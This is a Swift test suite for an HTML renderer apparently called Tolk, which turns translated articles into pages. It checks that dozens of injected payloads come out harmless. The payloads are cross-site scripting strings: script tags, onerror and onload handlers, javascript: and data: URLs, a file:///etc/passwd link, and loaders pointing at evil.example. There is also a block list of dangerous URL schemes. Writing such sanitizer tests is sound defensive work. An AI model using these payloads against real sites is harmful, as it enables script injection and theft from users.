import Foundation
import Testing

@testable import TolkKit

/// Hostile input in every place an article can carry it. Each payload goes into
/// a small bilingual article; both pages must hold no script but Tolk's own, no
/// event-handler attribute, no dangerous URL in `href`/`src`, only elements Tolk
/// writes, and must parse with their structure intact.
@Suite("HTML injection")
struct HTMLInjectionTests {
    struct Payload: Sendable, CustomTestStringConvertible {
        var place: String
        var body: String
        var frontMatter: String = ""
        var testDescription: String { "\(place): \(body.prefix(60))" }
    }

    static func unit(_ target: String, _ source: String = "English text.") -> String {
        "# <a name=\"top\"></a>" + Fixtures.unit("x-101", "Titel", "Title") + "\n\n" + Fixtures.unit("x-102", target, source) + "\n"
    }

    static let unitText = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"https://evil.example\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"x\" onclick=\"alert(1)\" name=\"n\">x</a>", "<b onmouseover=alert(1)>bold</b>", "<style>body{display:none}</style>",
        "<math><mtext><script>alert(1)</script></mtext></math>", "<object data=\"javascript:alert(1)\"></object>",
        "<form action=\"https://evil.example\"><input type=submit></form>", "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>", "</span></span></p></li></ol></main><script>alert(1)</script>", "<b><i><kbd>never closed",
        "</b></i>closing only", "<!--<script>alert(1)</script>-->", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">", "<link rel=stylesheet href=https://evil.example/x.css>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<img src=\"//evil.example/x.png\" alt=\"x\">",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<embed src=\"javascript:alert(1)\">",
        "<details open ontoggle=alert(1)>x</details>", "<email address> & <x onload=1> &amp; <unknown-tag onclick=1>",
        "<img src=\"ok.png\" onerror=\"alert(1)\" alt=\"a&quot; onload=&quot;x\" width=\"10 onload=1\">",
        "<sup><a name=\"tolk-show-originals\">x</sup>",
        "<textarea><script>alert(1)</script></textarea>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "`<script>alert(1)</script>`", "**<script>**alert(1)**</script>**", "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<a id=\"__tolkPwned\" href=\"#\">clobber</a><a name=\"__proto__\"></a><a name=\"a b\"></a>",
        "\u{1}\u{8}\u{B}\u{7F}\u{9B}\u{FFFE}ctl",
    ].map { Payload(place: "unit text", body: unit($0)) }

    static let linkDestinations = [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "<java&#9;script:alert(1)>", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
        "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "&#x01;javascript:alert(1)",
        "<\u{20}\u{20}javascript:alert(1)>", "//evil.example/path", "\\\\\\\\evil.example/x", "file:///etc/passwd",
        "https://ok.example/\"onmouseover=\"alert(1)", "<https://ok.example/a b>", "java%0ascript:alert(1)",
    ].flatMap { destination in
        [
            Payload(place: "link", body: unit("Se [her](\(destination)).", "See [here](\(destination)).")),
            Payload(place: "link in original", body: unit("Se her.", "See [here](\(destination)).")),
        ]
    }

    static let imageSources = [
        "javascript:alert(1)", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:text/html;base64,PHNjcmlwdD4=",
        "https://evil.example/track.png", "//evil.example/x.png", "<data:image/png;base64,AAA\" onerror=\"alert(1)>",
    ].map { Payload(place: "image", body: unit("![billede](\($0))", "![image](\($0))")) }

    static let others: [Payload] = [
        Payload(place: "autolink", body: unit("Se <javascript:alert(1)>.", "See <javascript:alert(1)>.")),
        Payload(place: "link title", body: unit("[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")", "[x](https://ok.example)")),
        Payload(place: "image alt", body: unit("![\"><script>alert(1)</script>](ok.png)", "![x](ok.png)")),
        Payload(
            place: "front matter title", body: Fixtures.unit("x-101", "Ingen overskrift", "No heading") + "\n",
            frontMatter: "title: \"</title><script>alert(1)</script>\"\ndescription: \"\\\"><script>alert(2)</script>\"\n"),
        Payload(
            place: "front matter description", body: unit("Tekst."), frontMatter: "description: '<meta http-equiv=refresh content=0>'\n"),
        Payload(
            place: "heading anchor",
            body: "# <a name=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" onclick=\"alert(1)\"></a>"
                + Fixtures.unit("x-101", "T", "T") + "\n"),
        Payload(place: "code block", body: unit("Kode:") + "\n```js\" onload=\"alert(1)\n</code></pre><script>alert(1)</script>\n```\n"),
        Payload(
            place: "HTML block",
            body: unit("Tekst.") + "\n<div onclick=\"alert(1)\"><script>alert(1)</script><iframe src=x></iframe></div>\n"),
        Payload(place: "HTML block, unclosed", body: unit("Tekst.") + "\n<p><b><i>open <a name=\"q\" href=\"javascript:x\">\n"),
        Payload(place: "video note", body: unit("Tekst.") + "\n> [!VIDEO javascript:alert(1)]\n"),
        Payload(
            place: "table cell",
            body: unit("Tekst.") + "\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| a | b |\n"),
        Payload(place: "language", body: unit("Tekst."), frontMatter: "ms.contentlocale: \"da\\\" onload=\\\"x\"\n"),
    ]

    static let payloads = unitText + linkDestinations + imageSources + others

    /// The elements Tolk writes inside `<main>`.
    static let allowedInMain: Set<String> = [
        "main", "article", "h1", "h2", "h3", "h4", "h5", "h6", "p", "span", "ol", "ul", "li", "div", "table", "thead", "tbody", "tr", "th",
        "td",
        "pre", "code", "em", "strong", "del", "a", "img", "br", "hr", "blockquote", "b", "i", "kbd", "sup", "sub",
    ]

    /// Elements that must never come from an article (the toggle's `input` is Tolk's own).
    static let forbiddenInBody: Set<String> = [
        "meta", "base", "link", "style", "iframe", "object", "embed", "form", "input", "textarea", "svg", "math", "frame", "applet",
    ]

    @Test("payloads render harmless and well-formed", arguments: payloads)
    func harmless(_ payload: Payload) throws {
        var front = "---\nms.translationtype: MT\n"
        if !payload.frontMatter.contains("ms.contentlocale") { front += "ms.contentlocale: da-DK\n" }
        if !payload.frontMatter.contains("title:") { front += "title: Injection\n" }
        let article = try Fixtures.article(text: front + payload.frontMatter + "---\n" + payload.body)
        let ownScript = try #require(try HTMLTesting.templates().script)
        for side in Side.allCases {
            let page = try HTMLTesting.render(article, side, pageURLs: ["da-DK": "da.html", "en-US": "en.html"])
            HTMLTesting.expectWellFormed(page, "\(side)")
            let withoutOwnScript = page.replacingOccurrences(of: "<script>" + ownScript + "</script>", with: "")
            let scriptFree = !withoutOwnScript.lowercased().contains("<script")
            #expect(scriptFree, "\(side)")
            for tag in Self.tags(in: page) {
                for (name, value) in tag.attributes {
                    #expect(!name.hasPrefix("on"), "\(side): <\(tag.name) \(name)=…>")
                    #expect(name != "style", "\(side): style attribute on <\(tag.name)>")
                    if name == "href" || name == "src" || name == "action" || name == "data" {
                        let url = Self.decode(value).unicodeScalars.filter { $0.value > 0x20 && $0.value != 0x7F }.map(String.init).joined()
                            .lowercased()
                        for bad in ["javascript:", "vbscript:", "data:text", "data:image/svg", "file:"] {
                            #expect(!url.contains(bad), "\(side): \(name)=\"\(value)\"")
                        }
                        #expect(!url.hasPrefix("//") && !url.hasPrefix("\\\\"), "\(side): \(name)=\"\(value)\"")
                    }
                }
            }
            for tag in Self.tags(in: String(HTMLTesting.main(page))) {
                // Tolk's own IDs: <main>'s, the toggle's and the originals' (`tolk-o-N`, named by aria-describedby).
                let ownID: (String) -> Bool = { value in
                    (tag.name == "main" && value == "tolk-main") || (tag.name == "input" && value == "tolk-show-originals")
                        || (tag.name == "span" && value.hasPrefix("tolk-o-") && value.dropFirst(7).allSatisfy { $0.isASCII && $0.isNumber }
                            && value.count > 7)
                }
                for (name, value) in tag.attributes where name == "id" && !ownID(value) {
                    #expect(!value.isEmpty && HTMLTagFilter.pageID(value) == value, "\(side): id=\"\(value)\" (DOM clobbering)")
                }
                // The originals switch (an input and its label) is the one control in <main>.
                let isToggle =
                    (tag.name == "input" && tag.attributes.contains { $0 == ("id", "tolk-show-originals") })
                    || (tag.name == "label" && tag.attributes.contains { $0 == ("for", "tolk-show-originals") })
                #expect(Self.allowedInMain.contains(tag.name) || isToggle, "\(side): <\(tag.name)> inside <main>")
                if tag.name == "a" {
                    #expect(Set(tag.attributes.map(\.0)).isSubset(of: ["href", "title", "id"]), "\(side): \(tag.attributes)")
                }
            }
            #expect(HTMLTesting.count("<title>", in: page) == 1 && HTMLTesting.count("</title>", in: page) == 1)
            #expect(HTMLTesting.count("<main", in: page) == 1 && HTMLTesting.count("</main>", in: page) == 1)
            #expect(HTMLTesting.count("id=\"tolk-show-originals\"", in: page) <= 1)
            #expect(HTMLTesting.count("<meta http-equiv", in: page) == 1, "only Tolk's CSP meta element")
            let body = page.range(of: "<body").map { String(page[$0.lowerBound...]) } ?? ""
            for tag in Self.tags(in: body) where Self.forbiddenInBody.contains(tag.name) {
                let isToggle = tag.name == "input" && tag.attributes.contains { $0 == ("id", "tolk-show-originals") }
                #expect(isToggle, "\(side): <\(tag.name)> in the body")
            }
        }
    }

    @Test("there are at least 30 payloads in each kind of place")
    func enough() {
        #expect(Self.unitText.count >= 30)
        #expect(Self.payloads.count >= 60)
    }

    // MARK: Reading the output

    struct Tag {
        var name: String
        var attributes: [(String, String)]
    }

    /// Start tags with their attributes, read the way a browser reads our output
    /// (script and style contents skipped).
    static func tags(in html: String) -> [Tag] {
        var out: [Tag] = []
        let chars = Array(html.unicodeScalars)
        var i = 0
        func skipSpace() { while i < chars.count, chars[i].properties.isWhitespace { i += 1 } }
        while i < chars.count {
            guard chars[i] == "<", i + 1 < chars.count, chars[i + 1].properties.isAlphabetic else {
                i += 1
                continue
            }
            i += 1
            var name = ""
            while i < chars.count, chars[i].properties.isAlphabetic || ("0"..."9").contains(chars[i]) {
                name.unicodeScalars.append(chars[i]); i += 1
            }
            var tag = Tag(name: name.lowercased(), attributes: [])
            while i < chars.count, chars[i] != ">" {
                skipSpace()
                var attribute = ""
                while i < chars.count, !chars[i].properties.isWhitespace, chars[i] != "=", chars[i] != ">" {
                    attribute.unicodeScalars.append(chars[i]); i += 1
                }
                skipSpace()
                var value = ""
                if i < chars.count, chars[i] == "=" {
                    i += 1
                    skipSpace()
                    let quote = i < chars.count && (chars[i] == "\"" || chars[i] == "'") ? chars[i] : nil
                    if quote != nil { i += 1 }
                    while i < chars.count, quote.map({ chars[i] != $0 }) ?? (!chars[i].properties.isWhitespace && chars[i] != ">") {
                        value.unicodeScalars.append(chars[i])
                        i += 1
                    }
                    if quote != nil { i += 1 }
                }
                if !attribute.isEmpty { tag.attributes.append((attribute.lowercased(), value)) }
            }
            out.append(tag)
            if tag.name == "script" || tag.name == "style" {
                let from = html.unicodeScalars.index(html.unicodeScalars.startIndex, offsetBy: min(i, chars.count))
                if let end = html.range(of: "</\(tag.name)>", range: from..<html.endIndex) {
                    i = html.unicodeScalars.distance(from: html.unicodeScalars.startIndex, to: end.upperBound)
                }
            }
        }
        return out
    }

    /// Character references in an attribute value, decoded as a browser would.
    static func decode(_ value: String) -> String { CharacterReferences.decode(value) }
}
